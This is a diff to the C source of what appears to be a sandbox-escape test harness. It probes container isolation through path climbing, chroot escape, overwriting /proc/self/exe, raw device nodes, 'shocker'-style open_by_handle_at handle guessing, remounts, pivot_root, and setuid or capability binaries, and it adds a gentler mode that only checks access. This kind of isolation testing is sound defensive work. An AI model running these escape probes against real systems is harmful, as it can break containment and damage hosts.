@@ -10,21 +10,36 @@
 #include <sys/sysmacros.h>
 #include <sys/xattr.h>
 
-/* read PATH...: the bytes that can be read from each */
+void read_fd(const char *what, int fd)
+{
+	static char data[65536];
+	ssize_t len = fd < 0 ? -1 : read(fd, data, sizeof(data));
+
+	if (len < 0) {
+		got(what, -1);
+		return;
+	}
+	got_number(what, len);
+	for (ssize_t i = 0; i < len && i < 4096; i++)
+		putchar(data[i] > ' ' && data[i] < 0x7f ? data[i] : '.');
+	putchar('\n');
+	fflush(stdout);
+}
+
+void read_path(const char *path)
+{
+	int fd = open(path, O_RDONLY | O_NONBLOCK);
+
+	read_fd(path, fd);
+	if (fd >= 0)
+		close(fd);
+}
+
+/* read PATH...: what can be read from each */
 static int attack_read(int argc, char **argv)
 {
-	for (int i = 0; i < argc; i++) {
-		char data[65536];
-		int fd = open(argv[i], O_RDONLY | O_NONBLOCK);
-		ssize_t len = fd < 0 ? -1 : read(fd, data, sizeof(data));
-
-		if (len < 0)
-			got(argv[i], -1);
-		else
-			got_number(argv[i], len);
-		if (fd >= 0)
-			close(fd);
-	}
+	for (int i = 0; i < argc; i++)
+		read_path(argv[i]);
 	return 0;
 }
 
@@ -37,21 +52,21 @@ static int attack_climb(int argc, char **argv)
 		"/dev/fd/0/../../../../../../..", "/tmp/../../../../../../../..",
 	};
 	char path[4096];
-	char *chain[] = { path };
 
 	if (argc != 1)
 		return 99;
 	for (size_t i = 0; i < COUNT(prefixes); i++) {
 		snprintf(path, sizeof(path), "%s%s", prefixes[i], argv[0]);
-		attack_read(1, chain);
+		read_path(path);
 	}
+	mkdir("jail", 0700); /* in the workspace */
+	int jail = open("jail", O_RDONLY | O_DIRECTORY);
 	for (int i = 0; i < 200; i++)
 		if (chdir("..") < 0)
 			break;
 	snprintf(path, sizeof(path), ".%s", argv[0]);
-	attack_read(1, chain);
-	mkdir("/tmp/jail", 0700);
-	got("chroot", chroot("/tmp/jail"));
+	read_path(path);
+	got("chroot", fchdir(jail) < 0 ? -1 : chroot("."));
 	return 0;
 }
 
@@ -59,6 +74,10 @@ static void try_create(const char *folder)
 {
 	char path[4096];
 
+	if (gentle()) {
+		got(folder, faccessat(AT_FDCWD, folder, W_OK, AT_EACCESS));
+		return;
+	}
 	snprintf(path, sizeof(path), "%s/written-by-the-cell", strcmp(folder, "/") ? folder : "");
 	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
 	got(folder, fd);
@@ -93,7 +112,7 @@ static int attack_write(int argc, char **argv)
 	char line[8192], point[4096];
 
 	(void)argc, (void)argv;
-	create_below("/", 3);
+	create_below("/", gentle() ? 2 : 3);
 	while (mounts && fgets(line, sizeof(line), mounts))
 		if (sscanf(line, "%*d %*d %*s %*s %4095s", point) == 1)
 			try_create(point);
@@ -121,6 +140,16 @@ static int attack_overwrite(int argc, char **argv)
 	return 0;
 }
 
+/* system PATH...: the same to what may be the machine's own: outside of a whole cell it is only asked for */
+static int attack_system(int argc, char **argv)
+{
+	if (!gentle())
+		return attack_overwrite(argc, argv);
+	for (int i = 0; i < argc; i++)
+		got(argv[i], faccessat(AT_FDCWD, argv[i], W_OK, AT_EACCESS));
+	return 0;
+}
+
 /* fds: what was open at the start, and whether any of it is a way out */
 static int attack_fds(int argc, char **argv)
 {
@@ -144,7 +173,11 @@ static int attack_fds(int argc, char **argv)
 /* exe: overwrite whatever started us, through /proc */
 static int attack_exe(int argc, char **argv)
 {
+	char parent[32];
+
 	(void)argc, (void)argv;
+	snprintf(parent, sizeof(parent), "/proc/%d/exe", (int)getppid());
+	got("parent-read", open(parent, O_RDONLY));
 	got("self-write", open("/proc/self/exe", O_WRONLY));
 	got("self-truncate", truncate("/proc/self/exe", 0));
 	got("init-read", open("/proc/1/exe", O_RDONLY));
@@ -155,7 +188,33 @@ static int attack_exe(int argc, char **argv)
 	return 0;
 }
 
-/* mknod: devices made or opened */
+/* In the workspace, and gone again: what is made there is no harm. */
+static void make_node(const char *path, mode_t mode, unsigned major, unsigned minor)
+{
+	got(path, mknod(path, mode, makedev(major, minor)));
+	unlink(path);
+}
+
+static void open_device(const char *folder, const char *name)
+{
+	char path[256];
+
+	snprintf(path, sizeof(path), "%s/%s", folder, name);
+	got(path, gentle() ? faccessat(AT_FDCWD, path, R_OK | W_OK, AT_EACCESS) : open(path, O_RDWR | O_NONBLOCK));
+}
+
+/* A device under its name, and made anew by its number. */
+static void try_device(const char *name, unsigned major, unsigned minor)
+{
+	char path[256];
+
+	open_device("/dev", name);
+	open_device("/devices", name);
+	snprintf(path, sizeof(path), "made-%s", name);
+	make_node(path, S_IFBLK | 0666, major, minor);
+}
+
+/* mknod: devices made or opened: well-known ones, and all that the kernel tells of; /devices: a /dev that was mounted */
 static int attack_mknod(int argc, char **argv)
 {
 	static const struct {
@@ -163,83 +222,126 @@ static int attack_mknod(int argc, char **argv)
 		mode_t mode;
 		unsigned major, minor;
 	} nodes[] = {
-		{ "/tmp/null", S_IFCHR | 0666, 1, 3 },	     { "/workspace/null", S_IFCHR | 0666, 1, 3 },
-		{ "/tmp/kmem", S_IFCHR | 0666, 1, 2 },	     { "/workspace/disk", S_IFBLK | 0666, 254, 0 },
-		{ "/workspace/loop", S_IFBLK | 0666, 7, 0 }, { "/dev/shm/tty", S_IFCHR | 0666, 5, 0 },
-		{ "/dev/disk", S_IFBLK | 0666, 254, 0 },
+		{ "/tmp/null", S_IFCHR | 0666, 1, 3 },	  { "/tmp/kmem", S_IFCHR | 0666, 1, 2 },
+		{ "/dev/shm/tty", S_IFCHR | 0666, 5, 0 }, { "/dev/disk", S_IFBLK | 0666, 254, 0 },
 	};
 	static const char *const devices[] = {
-		"/dev/vda", "/dev/sda", "/dev/kvm", "/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/loop0",
-		"/dev/loop-control", "/dev/net/tun", "/dev/console", "/dev/tty0", "/dev/userfaultfd",
-		"/dev/mapper/control", "/dev/vhost-vsock", "/dev/cuse",
+		"vda", "sda", "kvm", "mem", "kmsg", "fuse", "loop0", "loop-control", "net/tun", "console", "tty0", "userfaultfd",
+		"mapper/control", "vhost-vsock", "cuse", "port", "hwrng",
 	};
+	FILE *partitions = fopen("/proc/partitions", "r");
+	unsigned major, minor;
+	char line[256], name[128];
 
 	(void)argc, (void)argv;
-	for (size_t i = 0; i < COUNT(nodes); i++) {
-		got(nodes[i].path, mknod(nodes[i].path, nodes[i].mode, makedev(nodes[i].major, nodes[i].minor)));
-	}
+	make_node("null", S_IFCHR | 0666, 1, 3);
+	for (size_t i = 0; i < COUNT(nodes) && !gentle(); i++)
+		make_node(nodes[i].path, nodes[i].mode, nodes[i].major, nodes[i].minor);
 	for (size_t i = 0; i < COUNT(devices); i++)
-		got(devices[i], open(devices[i], O_RDWR | O_NONBLOCK));
+		open_device("/dev", devices[i]), open_device("/devices", devices[i]);
+	got("/dev/ptmx", open("/dev/ptmx", O_RDWR | O_NOCTTY));
+	got("/devices/zero", open("/devices/zero", O_RDONLY)); /* harmless; and may not be opened by that name */
+	while (partitions && fgets(line, sizeof(line), partitions))
+		if (sscanf(line, "%u %u %*u %127s", &major, &minor, name) == 3)
+			try_device(name, major, minor);
 	return 0;
 }
 
-/* handle: open_by_handle_at, as "shocker" did, with the handle of / and guessed ones */
+union handle {
+	struct file_handle handle;
+	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+};
+
+/* "TYPE:HEX", as somebody on the host found it out. */
+static void given_handle(const char *text, union handle *ret)
+{
+	const char *hex = strchr(text, ':');
+	unsigned byte;
+
+	ret->handle.handle_type = atoi(text);
+	ret->handle.handle_bytes = 0;
+	for (hex = hex ? hex + 1 : ""; sscanf(hex, "%2x", &byte) == 1 && ret->handle.handle_bytes < MAX_HANDLE_SZ; hex += 2)
+		ret->handle.f_handle[ret->handle.handle_bytes++] = (unsigned char)byte;
+}
+
+/* handle [TYPE:HEX]: open_by_handle_at, as "shocker" did: with a handle that is known to be a file's, with that of a
+ * folder, and with guessed ones; from every mount there is */
 static int attack_handle(int argc, char **argv)
 {
-	union {
-		struct file_handle handle;
-		char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
-	} guess = { 0 };
-	int mount_id, opened = 0;
-	int root = open("/", O_RDONLY | O_DIRECTORY);
-	int scratch = open("/workspace", O_RDONLY | O_DIRECTORY);
+	static const char *const froms[] = { "/", ".", "/usr", "/proc/self/root", "/dev/null", "/review", "/hostile" };
+	union handle guess = { 0 };
+	int mount_id, opened = 0, root = open("/", O_RDONLY | O_DIRECTORY), here = open(".", O_RDONLY | O_DIRECTORY);
 
-	(void)argc, (void)argv;
 	guess.handle.handle_bytes = MAX_HANDLE_SZ;
 	got("name-to-handle", name_to_handle_at(AT_FDCWD, "/usr", &guess.handle, &mount_id, 0));
 	got("by-handle-real", open_by_handle_at(root, &guess.handle, O_RDONLY));
+	guess.handle.handle_bytes = MAX_HANDLE_SZ;
+	got("name-to-handle-fid", name_to_handle_at(AT_FDCWD, ".", &guess.handle, &mount_id, 0x200 /* AT_HANDLE_FID */));
+	for (size_t i = 0; i < COUNT(froms) && argc == 1; i++) {
+		char what[64];
+
+		given_handle(argv[0], &guess);
+		snprintf(what, sizeof(what), "by-handle-given:%s", froms[i]);
+		read_fd(what, open_by_handle_at(open(froms[i], O_RDONLY), &guess.handle, O_RDONLY));
+	}
 	for (uint32_t inode = 0; inode < 256; inode++) {
 		guess.handle.handle_bytes = 8;
 		guess.handle.handle_type = 1;
+		memset(guess.handle.f_handle, 0, 8);
 		memcpy(guess.handle.f_handle, &inode, sizeof(inode));
 		if (open_by_handle_at(root, &guess.handle, O_RDONLY) >= 0 ||
-			open_by_handle_at(scratch, &guess.handle, O_RDONLY) >= 0)
+			open_by_handle_at(here, &guess.handle, O_RDONLY) >= 0)
 			opened++;
 	}
 	got_number("by-handle-guessed", opened);
 	return 0;
 }
 
+/* Changing mounts does no harm to those of a namespace of our own. Where there is none to be had, and this is no whole
+ * cell, nothing may be changed. */
+bool mounts_are_ours(void)
+{
+	if (!gentle())
+		return true;
+	if (unshare(CLONE_NEWNS) < 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
+		return false;
+	return mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) == 0;
+}
+
 /* mount: every way to change what is mounted */
 static int attack_mount(int argc, char **argv)
 {
 	struct mount_attr clear_ro = { .attr_clr = MOUNT_ATTR_RDONLY };
+	const char *at = gentle() ? "m" : "/tmp/m";
 
 	(void)argc, (void)argv;
-	mkdir("/tmp/m", 0700);
-	got("tmpfs", mount("x", "/tmp/m", "tmpfs", 0, NULL));
-	got("proc", mount("x", "/tmp/m", "proc", 0, NULL));
-	got("sysfs", mount("x", "/tmp/m", "sysfs", 0, NULL));
-	got("cgroup", mount("x", "/tmp/m", "cgroup", 0, "memory"));
-	got("cgroup2", mount("x", "/tmp/m", "cgroup2", 0, NULL));
-	got("overlay", mount("x", "/tmp/m", "overlay", 0, "lowerdir=/,upperdir=/tmp,workdir=/tmp"));
-	got("fuse", mount("x", "/tmp/m", "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0"));
-	got("bind", mount("/", "/tmp/m", NULL, MS_BIND | MS_REC, NULL));
+	got("open_tree-plain", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
+	got("fsopen", syscall(SYS_fsopen, "ext4", 0));
+	got("fsopen-cgroup", syscall(SYS_fsopen, "cgroup2", 0));
+	if (!mounts_are_ours())
+		return 0;
+	mkdir(at, 0700);
+	got("tmpfs", mount("x", at, "tmpfs", 0, NULL));
+	got("proc", mount("x", at, "proc", 0, NULL));
+	got("sysfs", mount("x", at, "sysfs", 0, NULL));
+	got("cgroup", mount("x", at, "cgroup", 0, "memory"));
+	got("cgroup2", mount("x", at, "cgroup2", 0, NULL));
+	if (!gentle())
+		got("overlay", mount("x", at, "overlay", 0, "lowerdir=/,upperdir=/tmp,workdir=/tmp"));
+	got("fuse", mount("x", at, "fuse", 0, "fd=0,rootmode=40000,user_id=0,group_id=0"));
+	got("bind", mount("/", at, NULL, MS_BIND | MS_REC, NULL));
 	got("remount-root", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
 	got("remount-usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
 	got("remount-tmp-exec", mount(NULL, "/tmp", NULL, MS_REMOUNT | MS_BIND, NULL));
 	got("propagation", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
 	got("move", mount("/tmp", "/workspace", NULL, MS_MOVE, NULL));
-	got("fsopen", syscall(SYS_fsopen, "ext4", 0));
-	got("fsopen-cgroup", syscall(SYS_fsopen, "cgroup2", 0));
 	got("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
 	got("fsmount", syscall(SYS_fsmount, 0, 0, 0));
 	got("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | AT_RECURSIVE));
-	got("open_tree-plain", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
 	got("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/workspace", 0));
 	got("mount_setattr",
 		syscall(SYS_mount_setattr, AT_FDCWD, "/", AT_RECURSIVE, &clear_ro, sizeof(clear_ro)));
-	got("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/m"));
+	got("pivot_root", syscall(SYS_pivot_root, "/tmp", at));
 	return 0;
 }
 
@@ -250,6 +352,9 @@ static int attack_umount(int argc, char **argv)
 	char line[8192], point[4096];
 
 	(void)argc, (void)argv;
+	got("nothing", umount2(".", MNT_DETACH)); /* EINVAL: we might, were it a mount */
+	if (!mounts_are_ours())
+		return 0;
 	while (mounts && fgets(line, sizeof(line), mounts))
 		if (sscanf(line, "%*d %*d %*s %*s %4095s", point) == 1)
 			got(point, umount2(point, MNT_DETACH));
@@ -289,7 +394,7 @@ static int attack_become(int argc, char **argv)
 {
 	if (argc != 1)
 		return 99;
-	execl(argv[0], argv[0], "whoami", (char *)NULL);
+	execl(argv[0], argv[0], "paths", "whoami", (char *)NULL);
 	got("exec", -1);
 	return 1;
 }
@@ -300,18 +405,18 @@ static int attack_setuid(int argc, char **argv)
 	char data[65536];
 	ssize_t len;
 	int from = open("/proc/self/exe", O_RDONLY);
-	int to = open("/workspace/suid", O_WRONLY | O_CREAT, 0755);
+	int to = open("suid", O_WRONLY | O_CREAT, 0755);
 
 	(void)argc, (void)argv;
 	while ((len = read(from, data, sizeof(data))) > 0)
 		if (write(to, data, (size_t)len) != len)
 			return 98;
 	close(to);
-	got("chown", chown("/workspace/suid", 0, 0));
-	got("chmod", chmod("/workspace/suid", 06755));
+	got("chown", chown("suid", 0, 0));
+	got("chmod", chmod("suid", 06755));
 	got("setuid", setuid(0));
 	got("setgid", setgid(0));
-	execl("/workspace/suid", "suid", "whoami", (char *)NULL);
+	execl("./suid", "suid", "paths", "whoami", (char *)NULL);
 	got("exec", -1);
 	return 1;
 }
@@ -322,6 +427,7 @@ static int attack_suid(int argc, char **argv)
 {
 	struct open_how how = { .flags = O_WRONLY | O_CREAT, .mode = 06755 };
 	const unsigned long upper = 1UL << 32;
+	char held[32];
 	int fd;
 
 	if (argc != 1 || chdir(argv[0]) < 0)
@@ -342,7 +448,8 @@ static int attack_suid(int argc, char **argv)
 	got("mknod", syscall(SYS_mknod, "mknod", S_IFREG | 06755, 0));
 	got("mknodat", syscall(SYS_mknodat, AT_FDCWD, "mknodat", S_IFREG | 06755, 0));
 	fd = open(".", O_RDWR | O_TMPFILE, 06755);
-	got("tmpfile", fd < 0 ? -1 : linkat(AT_FDCWD, "/proc/self/fd/3", AT_FDCWD, "tmpfile", AT_SYMLINK_FOLLOW));
+	snprintf(held, sizeof(held), "/proc/self/fd/%d", fd);
+	got("tmpfile", fd < 0 ? -1 : linkat(AT_FDCWD, held, AT_FDCWD, "tmpfile", AT_SYMLINK_FOLLOW));
 	static const unsigned char caps[20] = { 1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff };
 	got("capability", setxattr("chmod", "security.capability", caps, sizeof(caps), 0));
 	return 0;
@@ -365,7 +472,7 @@ static int attack_noexec(int argc, char **argv)
 		if (write(to, data, (size_t)len) != len)
 			return 98;
 	close(to);
-	execl(path, path, "whoami", (char *)NULL);
+	execl(path, path, "paths", "whoami", (char *)NULL);
 	got("exec", -1);
 	return 0;
 }
@@ -424,6 +531,6 @@ const struct attack paths_attacks[] = {
 	{ "mounts", attack_mounts },   { "whoami", attack_whoami },	{ "become", attack_become },
 	{ "setuid", attack_setuid },   { "noexec", attack_noexec },	{ "shm", attack_shm },
 	{ "cwd", attack_cwd },	       { "overwrite", attack_overwrite }, { "list", attack_list },
-	{ "suid", attack_suid },
+	{ "suid", attack_suid },       { "system", attack_system },
 	{ 0 },
 };
